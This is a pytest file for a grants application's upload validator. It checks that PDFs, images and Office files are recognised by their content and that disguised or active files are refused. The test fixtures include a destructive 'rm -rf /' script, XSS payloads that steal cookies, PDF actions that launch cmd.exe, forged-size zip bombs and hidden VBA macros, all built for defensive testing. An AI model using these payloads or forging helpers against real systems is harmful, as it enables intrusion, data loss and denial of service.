"""What an uploaded file is, decided by its content: allowed types and refusals.

Every test file is made here, by the library or the bytes that make it: PDFs by
hand (with a correct cross-reference table) or with pikepdf, images chunk by
chunk and segment by segment or with Pillow, Word and Excel packages with
zipfile, and forged ones by patching the headers zipfile wrote.
"""

import io
import random
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from grants import uploads
from grants.demo.paper import one_page_pdf

# PDF ----------------------------------------------------------------------------------


def pdf_document(*bodies: bytes, header: bytes = b"%PDF-1.4\n") -> bytes:
    """A PDF of these objects, numbered from 1 (the catalogue), with its xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
PDF_BYTES = pdf_document(CATALOG, PAGES, PAGE)


def page_with(*entries: bytes) -> bytes:
    """The one page, with more entries in its dictionary (annotations, actions)."""
    return PAGE[:-2] + b" ".join(entries) + b" >>"


def pikepdf_bytes(
    change=None, *, password: str | None = None, owner: str = ""
) -> bytes:
    """A one-page PDF written by pikepdf with its objects packed in object streams.

    ``change(pdf)`` adds to it first. Packed, the names and strings of those
    objects are compressed: no byte of "/JavaScript" shows in the file.
    """
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change:
        change(pdf)
    buffer = io.BytesIO()
    encryption = False
    if password is not None:
        encryption = pikepdf.Encryption(user=password, owner=owner or "owner")
    pdf.save(
        buffer,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        encryption=encryption,
    )
    return buffer.getvalue()


def action(**entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**entries)


def link(pdf, target: pikepdf.Dictionary, subtype=pikepdf.Name.Link):
    """Put an annotation on the first page that runs an action when clicked."""
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=subtype,
            Rect=[0, 0, 100, 100],
            A=pdf.make_indirect(target),
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])


# Images -------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes, *, crc: int | None = None) -> bytes:
    if crc is None:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_bytes(*extra_chunks: bytes) -> bytes:
    """A valid 1 x 1 grey PNG, with more chunks between its header and its pixels."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + b"".join(extra_chunks)
        + png_chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_bytes(*extra_segments: bytes) -> bytes:
    """A valid 8 x 8 grey baseline JPEG, built segment by segment.

    One quantisation table, one Huffman table each for DC and AC with a single
    one-bit code, and a scan of one block: DC difference 0, end of block.
    """
    return (
        b"\xff\xd8"
        + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + b"".join(extra_segments)
        + jpeg_segment(0xDB, b"\x00" + b"\x01" * 64)
        + jpeg_segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
        + jpeg_segment(0xC4, b"\x00\x01" + b"\x00" * 15 + b"\x00")
        + jpeg_segment(0xC4, b"\x10\x01" + b"\x00" * 15 + b"\x00")
        + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"
        + b"\xff\xd9"
    )


def pillow_image(image_format: str, **options) -> bytes:
    """A photograph-like image as Pillow writes it (metadata and all)."""
    image = Image.new("RGB", (64, 48))
    image.putdata([(x * 4, y * 5, (x * y) % 256) for y in range(48) for x in range(64)])
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


# Word and Excel -----------------------------------------------------------------------


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Statement of expenditure"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships"


def ooxml_bytes(
    main_part: str,
    content_type: str,
    *,
    extra=(),
    defaults=(),
    overrides=(),
    relationships=(),
) -> bytes:
    """A Word or Excel package as zipfile writes it.

    ``defaults`` and ``overrides`` add content types (by extension, by part);
    ``relationships`` are (type, target, external) of the main part, written in
    its own relationships part as Word and Excel do.
    """
    declared = "".join(
        f'<Default Extension="{extension}" ContentType="{kind}"/>'
        for extension, kind in defaults
    ) + "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>'
        for part, kind in overrides
    )
    folder, _slash, leaf = main_part.rpartition("/")
    links = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for number, (kind, target, external) in enumerate(relationships, start=1)
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/>'
            f"{declared}"
            f'<Override PartName="/{main_part}" ContentType="{content_type}"/>'
            "</Types>",
        )
        package.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="'
            f'{RELATIONSHIPS}/officeDocument" Target="{main_part}"/></Relationships>',
        )
        package.writestr(main_part, "<document/>")
        if links:
            package.writestr(
                f"{folder}/_rels/{leaf}.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                f'2006/relationships">{links}</Relationships>',
            )
        for name, data in extra:
            package.writestr(name, data)
    return buffer.getvalue()


def ole_file(storage: str, *streams: str) -> bytes:
    """A minimal OLE compound file (version 3): a storage holding empty streams.

    A vbaProject.bin is one, with a "VBA" storage holding "_VBA_PROJECT" and
    "dir"; an embedded object is one too. Sector 0 is the allocation table,
    sector 1 the directory: the root entry, the storage, then the streams.
    """
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # the signature of every OLE file
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
        + struct.pack("<I", free) * 108
    )
    table = struct.pack("<II", 0xFFFFFFFD, end) + struct.pack("<I", free) * 126

    def entry(name, kind, *, child=free, right=free):
        encoded = (name + "\x00").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", free, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<III", end, 0, 0)
        )

    names = [entry("Root Entry", 5, child=1), entry(storage, 1, child=2)]
    for index, name in enumerate(streams, start=2):
        right = index + 1 if index + 1 < len(streams) + 2 else free
        names.append(entry(name, 2, right=right))
    directory = b"".join(names).ljust(512, b"\x00")
    return header + table + directory


def forge_declared_size(package: bytes, part: str, size: int) -> bytes:
    """Make a package's part claim ``size`` bytes, in both headers that say it.

    The checksum is forged too, to that of the first ``size`` bytes: a reader
    that trusts the sizes, as Python's zipfile does, stops there and finds the
    part sound, though it inflates to all it held.
    """
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(part)
        with archive.open(info) as stream:
            checksum = zlib.crc32(stream.read(size))
    forged = bytearray(package)
    struct.pack_into("<I", forged, info.header_offset + 14, checksum)
    struct.pack_into("<I", forged, info.header_offset + 22, size)
    central = forged.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", forged, central + 28)[0]
        if forged[central + 46 : central + 46 + length] == part.encode():
            struct.pack_into("<I", forged, central + 16, checksum)
            struct.pack_into("<I", forged, central + 24, size)
        central = forged.find(b"PK\x01\x02", central + 46)
    return bytes(forged)


def mark_encrypted(package: bytes, part: str) -> bytes:
    """Set a part's "encrypted" flag, as a password-protected ZIP has it."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(part)
    marked = bytearray(package)
    marked[info.header_offset + 6] |= 1
    central = marked.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", marked, central + 28)[0]
        if marked[central + 46 : central + 46 + length] == part.encode():
            marked[central + 8] |= 1
        central = marked.find(b"PK\x01\x02", central + 46)
    return bytes(marked)


WORD_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)


def docx_bytes(**kwargs) -> bytes:
    return ooxml_bytes("word/document.xml", WORD_MAIN, **kwargs)


def zip_bytes(**files) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(name="report.pdf", data=PDF_BYTES, content_type="application/pdf"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal(uploaded_file, **kwargs) -> str:
    with pytest.raises(uploads.UploadRefused) as refused:
        uploads.check_upload(uploaded_file, **kwargs)
    return " ".join(refused.value.messages)


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("report.pdf", PDF_BYTES, uploads.PDF),
        ("photo.png", png_bytes(), uploads.PNG),
        ("scan.jpeg", jpeg_bytes(), uploads.JPEG),
        ("expenditure.xlsx", xlsx_bytes(), uploads.XLSX),
        ("narrative.docx", docx_bytes(), uploads.DOCX),
    ],
)
def test_each_allowed_type_is_recognised_by_its_content(name, data, expected):
    checked = uploads.check_upload(upload(name, data))

    assert checked.file_type == expected
    assert checked.size == len(data)


def test_a_file_is_named_by_its_content_not_by_the_name_it_came_with():
    checked = uploads.check_upload(upload("scan.docx", PDF_BYTES))

    assert checked.file_type == uploads.PDF
    assert checked.name == "scan.pdf"


def test_the_file_is_left_at_its_start_for_storing():
    uploaded_file = upload()
    uploads.check_upload(uploaded_file)

    assert uploaded_file.read() == PDF_BYTES


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("report.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "a Windows program"),
        ("report.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "a Linux program"),
        ("report.pdf", b"#!/bin/sh\nrm -rf /\n", "a script"),
        (
            "statement.pdf",
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
            "an HTML page",
        ),
        (
            "chart.png",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(1)</script></svg>",
            "an SVG image",
        ),
        ("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".doc"),
        ("notes.pdf", b"just some text", "not one of the allowed types"),
        ("archive.docx", zip_bytes(**{"a.txt": "hello"}), "not a Word or Excel"),
    ],
)
def test_a_forbidden_file_disguised_by_its_extension_is_refused_saying_what_it_is(
    name, data, said
):
    message = refusal(upload(name, data))

    assert said in message
    assert name in message


def test_an_empty_file_is_refused():
    assert "is empty" in refusal(upload("empty.pdf", b""))


def test_a_file_over_the_size_limit_is_refused_with_both_sizes(settings):
    settings.UPLOAD_MAX_BYTES = 1000

    padding = b"%" * (2150 - len(PDF_BYTES) - 7)  # 2,150 bytes in all
    message = refusal(upload("big.pdf", PDF_BYTES + padding + b"\n%%EOF\n"))

    assert "largest file accepted is 1000\u00a0bytes" in message
    assert "“big.pdf” is 2.1\u00a0KB" in message


def test_the_size_limit_is_a_setting(settings):
    settings.UPLOAD_MAX_BYTES = 10 * 1024 * 1024

    assert uploads.check_upload(upload()).file_type == uploads.PDF


def test_a_pdf_that_is_also_a_zip_archive_is_refused():
    polyglot = PDF_BYTES + zip_bytes(**{"payload.exe": "MZ"})

    assert "also a ZIP archive" in refusal(upload("report.pdf", polyglot))


def test_a_pdf_with_data_after_its_end_is_refused():
    message = refusal(upload("report.pdf", PDF_BYTES + b"trailing payload " * 10))

    assert "end-of-file marker" in message


@pytest.mark.parametrize(
    ("clicked", "said"),
    [
        (b"<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
        (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "JavaScript"),
        (b"<< /S /Launch /F (cmd.exe) >>", "an action that starts a program"),
        (b"<< /S /GoToE /T << /R /C /N (payload) >> >>", "embedded files"),
        (b"<< /S /SubmitForm /F (https://example.org/) >>", "form actions"),
        (b"<< /S /ImportData /F (data.fdf) >>", "form actions"),
        (b"<< /S /Rendition /OP 0 >>", "embedded media"),
    ],
)
def test_a_pdf_with_active_content_is_refused(clicked, said):
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 4 0 R >>"
    data = pdf_document(
        CATALOG, PAGES, page_with(b"/Annots [5 0 R]"), clicked, annotation
    )

    assert f"is a PDF that contains {said}" in refusal(upload("report.pdf", data))


def javascript_on_opening(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
    )


def test_a_pdf_with_javascript_in_an_object_stream_is_refused():
    data = pikepdf_bytes(javascript_on_opening)
    # What a search of the bytes would look for is compressed out of sight.
    assert b"/JavaScript" not in data
    assert b"/OpenAction" not in data
    assert b"/JS" not in data

    message = refusal(upload("report.pdf", data))

    assert "“report.pdf” is a PDF that contains JavaScript" in message
    assert "Print it to a plain PDF" in message


def document_javascript(pdf):
    script = pdf.make_indirect(action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["start", script]))
    )


def embedded_file(pdf):
    attached = pdf.make_stream(b"MZ payload", Type=pikepdf.Name.EmbeddedFile)
    specification = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="setup.exe", EF=pikepdf.Dictionary(F=attached)
    )
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["a", specification]))
    )


def attached_to_the_page(pdf):
    link(pdf, action(S=pikepdf.Name.GoTo, D=[0, pikepdf.Name.Fit]))
    pdf.pages[0].obj.Annots[0].Subtype = pikepdf.Name.FileAttachment


def launched_when_opened(pdf):
    pdf.Root.OpenAction = action(S=pikepdf.Name.Launch, F="cmd.exe")


def printed_when_opened(pdf):
    pdf.Root.OpenAction = action(S=pikepdf.Name.Named, N=pikepdf.Name.Print)


def run_when_the_page_closes(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        C=action(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage)
    )


def xfa_form(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")
    )


def rich_media(pdf):
    link(pdf, action(S=pikepdf.Name.GoTo, D=[0, pikepdf.Name.Fit]))
    pdf.pages[0].obj.Annots[0].Subtype = pikepdf.Name.RichMedia


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (javascript_on_opening, "JavaScript"),
        (document_javascript, "JavaScript"),
        (embedded_file, "embedded files"),
        (attached_to_the_page, "embedded files"),
        (launched_when_opened, "an action that starts a program"),
        (printed_when_opened, "actions that run by themselves"),
        (run_when_the_page_closes, "actions that run by themselves"),
        (xfa_form, "a dynamic (XFA) form"),
        (rich_media, "embedded media"),
    ],
    ids=lambda value: getattr(value, "__name__", None),
)
def test_active_content_is_found_wherever_a_pdf_packs_it(change, said):
    message = refusal(upload("report.pdf", pikepdf_bytes(change)))

    assert f"is a PDF that contains {said}" in message


def opens_at_the_first_page_with_links(pdf):
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    link(pdf, action(S=pikepdf.Name.URI, URI="https://mines.gov.in/"))
    pdf.Root.Info = pdf.make_indirect(pikepdf.Dictionary(Title="Progress <report> 2"))


def test_a_pdf_that_opens_at_its_first_page_and_has_web_links_is_accepted():
    """As LaTeX writes every PDF: the opening action only goes to a page."""
    data = pikepdf_bytes(opens_at_the_first_page_with_links)

    assert uploads.check_upload(upload("report.pdf", data)).file_type == uploads.PDF


def test_the_demo_signed_copy_and_an_owner_restricted_pdf_are_accepted():
    restricted = pikepdf_bytes(password="")  # opens without one; copying restricted

    for data in (one_page_pdf(["Form GFR 12-A", "Signed"]), restricted):
        assert uploads.check_upload(upload("signed.pdf", data)).file_type == uploads.PDF


def test_a_restricted_pdf_is_still_opened_and_checked():
    data = pikepdf_bytes(javascript_on_opening, password="")

    assert "is a PDF that contains JavaScript" in refusal(upload("report.pdf", data))


def test_a_pdf_that_needs_a_password_to_open_is_refused_as_uncheckable():
    message = refusal(upload("report.pdf", pikepdf_bytes(password="secret")))

    assert "“report.pdf” is protected with a password, so it cannot be checked" in (
        message
    )


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + b"not a PDF at all " * 100 + b"\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >>\n%%EOF\n",
        PDF_BYTES[:60] + b"\n%%EOF\n",
    ],
    ids=["garbage", "no-trailer", "cut-short"],
)
def test_a_pdf_that_cannot_be_parsed_is_refused_with_a_reason(data):
    message = refusal(upload("report.pdf", data))

    assert "“report.pdf” cannot be read as a PDF: it is damaged" in message


def test_a_pdf_with_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(uploads.pdf, "PDF_MAX_OBJECTS", 3)

    assert "too many parts" in refusal(upload("report.pdf", pikepdf_bytes()))


def test_a_pdf_with_html_in_its_first_bytes_is_refused():
    data = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"

    assert "web page or script code" in refusal(upload("report.pdf", data))


def test_an_image_with_a_page_of_html_after_its_end_is_refused():
    data = png_bytes() + b"<script>alert(document.cookie)</script>"

    assert "web page or script code" in refusal(upload("photo.png", data))


def test_an_image_with_data_after_its_end_is_refused():
    assert "other data follows" in refusal(upload("photo.png", png_bytes() + b"x"))
    assert "other data follows" in refusal(upload("scan.jpg", jpeg_bytes() + b"abc"))


MIDDLE_PADDING = b"%" + b"-" * 4000 + b"\n"  # beyond the first and last kilobyte


def script_in_a_comment_between_objects() -> bytes:
    comment = b"%<script>alert(document.cookie)</script>\n"
    return pdf_document(
        CATALOG,
        PAGES,
        PAGE,
        header=b"%PDF-1.4\n" + MIDDLE_PADDING + comment + MIDDLE_PADDING,
    )


def script_in_the_title(pdf):
    pdf.trailer.Info = pdf.make_indirect(
        pikepdf.Dictionary(Title="<script>alert(1)</script>")
    )


def script_in_the_page_text(pdf):
    pdf.pages[0].Contents = pdf.make_stream(
        zlib.compress(b"BT /F1 12 Tf (<html><body onload=alert(1)>) Tj ET"),
        Filter=pikepdf.Name.FlateDecode,
    )


def link_to_a_javascript_url(pdf):
    link(pdf, action(S=pikepdf.Name.URI, URI="javascript:alert(document.cookie)"))


def script_in_the_metadata() -> bytes:
    xmp = zlib.compress(
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><svg onload="alert(1)"/></x:xmpmeta>'
    )
    metadata = (
        b"<< /Type /Metadata /Subtype /XML /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream" % (len(xmp), xmp)
    )
    return pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>", PAGES, PAGE, metadata
    )


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(script_in_a_comment_between_objects, id="comment"),
        pytest.param(lambda: pikepdf_bytes(script_in_the_title), id="title"),
        pytest.param(lambda: pikepdf_bytes(script_in_the_page_text), id="page-text"),
        pytest.param(lambda: pikepdf_bytes(link_to_a_javascript_url), id="link"),
        pytest.param(script_in_the_metadata, id="metadata"),
    ],
)
def test_a_pdf_with_a_script_in_its_middle_is_refused(data):
    data = data()
    # Nothing shows in the first or the last kilobyte, where the old check looked.
    for window in (data[:1024].lower(), data[-1024:].lower()):
        assert not any(marker in window for marker in uploads.ACTIVE_MARKERS)

    message = refusal(upload("report.pdf", data))

    assert "“report.pdf” is a PDF document with web page or script code in it" in (
        message
    )


def test_markup_like_bytes_inside_a_pdf_image_are_not_held_against_it():
    """Compressed and image data is binary; what matches there is chance."""
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace "
        b"/DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length 64 >>\n"
        b"stream\n" + b"<svg onload=x>".ljust(64, b"\x9c") + b"\nendstream"
    )
    data = pdf_document(
        CATALOG,
        PAGES,
        page_with(b"/Resources << >>"),
        image,
        header=b"%PDF-1.4\n" + MIDDLE_PADDING,
    )

    assert uploads.check_upload(upload("scan.pdf", data)).file_type == uploads.PDF


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


@pytest.mark.parametrize(
    "chunk",
    [
        png_chunk(b"tEXt", b"Comment\x00" + HTML),
        png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML)),
        png_chunk(b"iTXt", b"Comment\x00\x01\x00en\x00\x00" + zlib.compress(HTML)),
        png_chunk(b"iTXt", b"Comment\x00\x00\x00en\x00\x00" + HTML),
        png_chunk(b"prVt", b"\x00" * 2000 + HTML),
    ],
    ids=["text", "compressed-text", "compressed-international-text", "utf8", "private"],
)
def test_a_png_with_html_in_a_text_chunk_is_refused(chunk):
    padding = png_chunk(b"prVt", b"\x00" * 2000)  # beyond the first and last kB
    data = png_bytes(padding, chunk, padding)

    message = refusal(upload("photo.png", data))

    assert "“photo.png” is a PNG image with web page or script code in it" in message


def test_a_png_whose_chunk_does_not_match_its_checksum_is_refused_as_damaged():
    data = png_bytes(png_chunk(b"tEXt", b"Title\x00Site photo", crc=0))

    assert "is a PNG image that is damaged" in refusal(upload("photo.png", data))


def test_a_png_cut_short_is_refused():
    assert "cut short" in refusal(upload("photo.png", png_bytes()[:-20]))


def test_images_as_pillow_writes_them_with_their_metadata_are_accepted():
    exif = Image.Exif()
    exif[0x010E] = "Pilot plant, stage 2"  # the image description
    text = PngInfo()
    text.add_text("Software", "Camera")
    text.add_text("Description", "Pilot plant, stage 2", zip=True)
    text.add_itxt("Title", "पायलट संयंत्र", lang="hi", zip=True)
    images = [
        ("site.png", pillow_image("PNG", pnginfo=text), uploads.PNG),
        ("site.jpg", pillow_image("JPEG", exif=exif.tobytes()), uploads.JPEG),
        ("site.jpg", pillow_image("JPEG", progressive=True), uploads.JPEG),
        ("site.jpg", pillow_image("JPEG", optimize=True, quality=50), uploads.JPEG),
        # A camera's file: the photograph, then a preview image after its end.
        ("site.jpg", pillow_image("JPEG") + jpeg_bytes(), uploads.JPEG),
    ]
    for name, data, kind in images:
        assert uploads.check_upload(upload(name, data)).file_type == kind, name


@pytest.mark.parametrize(
    "segment",
    [
        jpeg_segment(0xFE, HTML),
        jpeg_segment(0xE1, b"Exif\x00\x00" + b"\x00" * 2000 + HTML),
        jpeg_segment(0xED, b"Photoshop 3.0\x00" + b"<svg onload=alert(1)>"),
    ],
    ids=["comment", "exif", "photoshop"],
)
def test_a_jpeg_with_html_in_a_segment_is_refused(segment):
    padding = jpeg_segment(0xE2, b"\x00" * 2000)  # beyond the first and last kB
    data = jpeg_bytes(padding, segment, padding)

    message = refusal(upload("scan.jpg", data))

    assert "“scan.jpg” is a JPEG image with web page or script code in it" in message


def test_a_jpeg_with_a_page_of_html_after_its_end_is_refused():
    message = refusal(upload("scan.jpg", jpeg_bytes() + b"\x00" * 4000 + HTML))

    assert "web page or script code" in message


def test_a_jpeg_cut_short_or_out_of_order_is_refused():
    whole = jpeg_bytes()

    assert "cut short" in refusal(upload("scan.jpg", whole[:-2]))
    assert "cut short" in refusal(upload("scan.jpg", whole[:40]))
    damaged = whole.replace(b"\xff\xdb", b"\x00\xdb", 1)
    assert "is a JPEG image that is damaged" in refusal(upload("scan.jpg", damaged))


def test_a_zip_bomb_is_refused_by_its_compression_ratio():
    bomb = ooxml_bytes(
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        extra=[("xl/worksheets/sheet1.xml", b"0" * (20 * 1024 * 1024))],
    )

    assert "zip bomb" in refusal(upload("budget.xlsx", bomb))


def test_a_zip_bomb_is_refused_by_its_total_unpacked_size(monkeypatch):
    monkeypatch.setattr(uploads.packages, "ZIP_MAX_UNCOMPRESSED_BYTES", 1000)
    data = docx_bytes(extra=[("word/media/a.xml", "x" * 2000)])

    assert "would unpack to" in refusal(upload("report.docx", data))


EXCEL_MAIN = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
)
MEBIBYTE = 1024 * 1024


def forged_bomb(parts: int = 2, size: int = 64 * MEBIBYTE) -> bytes:
    """An Excel package whose sheets claim 1,000 bytes each and inflate to ``size``."""
    package = ooxml_bytes(
        "xl/workbook.xml",
        EXCEL_MAIN,
        extra=[(f"xl/worksheets/sheet{n}.xml", b" " * size) for n in range(parts)],
    )
    for n in range(parts):
        package = forge_declared_size(package, f"xl/worksheets/sheet{n}.xml", 1000)
    return package


def test_a_zip_bomb_with_forged_sizes_is_refused_by_what_it_really_unpacks_to():
    bomb = forged_bomb()
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        # The forgery fools a reader that trusts the headers: all looks small.
        assert {info.file_size for info in archive.infolist()[-2:]} == {1000}
        assert archive.read("xl/worksheets/sheet0.xml") == b" " * 1000

    message = refusal(upload("budget.xlsx", bomb))

    assert "“budget.xlsx” is compressed suspiciously hard (a “zip bomb”)" in message
    assert "unpacks to more than" in message


def test_a_package_whose_forged_sizes_hide_no_bomb_is_refused_as_damaged():
    package = docx_bytes(extra=[("word/media/notes.xml", b"<notes/>" * 1000)])
    forged = forge_declared_size(package, "word/media/notes.xml", 100)

    message = refusal(upload("report.docx", forged))

    assert "“report.docx” looks like a Word or Excel file but is damaged" in message


def test_the_total_a_package_unpacks_to_is_counted_as_it_inflates(monkeypatch):
    monkeypatch.setattr(uploads.packages, "ZIP_MAX_UNCOMPRESSED_BYTES", 3 * MEBIBYTE)
    figures = bytes(random.Random(16).choices(b"0123456789,\n", k=4 * MEBIBYTE))
    package = docx_bytes(extra=[("word/media/figures.csv", figures)])  # ratio 2:1
    data = forge_declared_size(package, "word/media/figures.csv", 1000)

    message = refusal(upload("report.docx", data))

    assert "would unpack to more than the 3.0\u00a0MB a document may hold" in message


def test_a_package_with_a_password_protected_part_is_refused():
    data = mark_encrypted(docx_bytes(), "word/document.xml")

    assert "is protected with a password" in refusal(upload("report.docx", data))


def test_a_real_workbook_of_some_size_is_accepted():
    workbook = openpyxl.Workbook()
    for row in range(1, 3001):
        workbook.active.append([row, f"Item {row}", row * 1250, f"=C{row}*2"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    checked = uploads.check_upload(upload("budget.xlsx", buffer.getvalue()))

    assert checked.file_type == uploads.XLSX


VBA = "application/vnd.ms-office.vbaProject"
VBA_RELATIONSHIP = f"{MS_RELATIONSHIPS}/vbaProject"
VBA_PROJECT = ole_file("VBA", "_VBA_PROJECT", "dir")


@pytest.mark.parametrize(
    "disguise",
    [
        {"relationships": [(VBA_RELATIONSHIP, "payload.bin", False)]},
        {"overrides": [("word/payload.bin", VBA)]},
        {"defaults": [("bin", VBA)]},
        {},  # the content alone: an OLE file holding a VBA project
        {
            "relationships": [(VBA_RELATIONSHIP, "payload.bin", False)],
            "overrides": [("word/payload.bin", VBA)],
        },
    ],
    ids=["relationship", "content-type", "default-type", "content", "all"],
)
def test_a_vba_project_stored_under_another_name_is_refused(disguise):
    data = docx_bytes(extra=[("word/payload.bin", VBA_PROJECT)], **disguise)

    message = refusal(upload("report.docx", data))

    assert "“report.docx” contains macros, which are not accepted." in message


@pytest.mark.parametrize(
    "disguise",
    [
        {"relationships": [(f"{RELATIONSHIPS}/control", "ctl1.xml", False)]},
        {"overrides": [("word/ctl1.xml", "application/vnd.ms-office.activeX+xml")]},
    ],
    ids=["relationship", "content-type"],
)
def test_activex_controls_under_another_name_are_refused(disguise):
    data = docx_bytes(extra=[("word/ctl1.xml", "<ax:ocx/>")], **disguise)

    assert "contains ActiveX controls" in refusal(upload("report.docx", data))


def test_an_excel_4_macro_sheet_is_refused():
    data = ooxml_bytes(
        "xl/workbook.xml",
        EXCEL_MAIN,
        overrides=[
            ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
        ],
        extra=[("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")],
    )

    assert "contains macros" in refusal(upload("budget.xlsx", data))


